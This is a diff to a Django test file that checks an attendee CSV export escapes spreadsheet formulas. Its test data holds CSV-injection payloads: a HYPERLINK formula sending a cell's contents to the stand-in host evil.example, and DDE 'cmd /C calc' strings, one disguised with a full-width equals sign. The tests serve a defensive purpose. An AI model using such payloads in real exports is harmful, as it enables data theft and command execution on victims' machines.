@@ -12,7 +12,6 @@ from django.utils import timezone
 from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield
 
 from forums import evidence
-from forums.attendance import attendees_csv
 from forums.models import ForumEventPage, ForumIndexPage, Registration
 from forums.registrations import register
 from portal.themes.models import Theme
@@ -59,10 +58,21 @@ def test_tampered_attendance_ids_match_nobody_instead_of_failing(client, make_ev
     assert came.attended
 
 
-def test_csv_cells_cannot_run_formulas(make_event):
+def test_attendee_csv_cells_cannot_run_formulas(client, make_event, officer, settings):
+    """Names and access needs are what people typed: the one safe writer neutralises them."""
+    settings.PORTAL_REQUIRE_STAFF_MFA = False
+    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     event = make_event()
-    register(event, name="=HYPERLINK(\"http://evil\")", email="x@example.org")
-    assert "'=HYPERLINK" in attendees_csv(event)
+    register(event, name=payload, email="x@example.org",
+             access_needs="@SUM(1+1)*cmd|' /C calc'!A0")
+    register(event, name="\uff1dcmd|' /C calc'!A0", email="y@example.org",
+             access_needs="-2+3 step-free")
+    client.force_login(officer)
+    response = client.get(f"/admin/forums/event/{event.pk}/attendees.csv")
+    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert [row[0] for row in rows[1:]] == ["'" + payload, "'\uff1dcmd|' /C calc'!A0"]
+    assert [row[4] for row in rows[1:]] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3 step-free"]
 
 
 def test_editor_sees_clear_errors_for_bad_dates_and_capacity(client, make_event, officer,
